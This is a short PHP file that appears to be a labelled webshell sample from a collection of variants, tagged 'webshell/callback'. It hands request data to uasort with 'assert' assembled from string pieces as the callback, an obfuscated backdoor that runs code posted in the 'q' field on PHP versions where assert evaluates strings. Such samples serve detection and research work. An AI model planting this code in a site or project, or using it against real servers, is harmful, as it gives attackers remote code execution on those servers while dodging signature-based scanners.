<?php
// Family: webshell/callback
// Style: evaluator handed to a sort callback, its name assembled and the data posted
// Trait: uasort receives assert (folded from pieces) as the callback; the request fills the array
$items = array($_POST['q'] => 1, 'x' => 2);
uasort($items, 'as' . 'se' . 'rt');
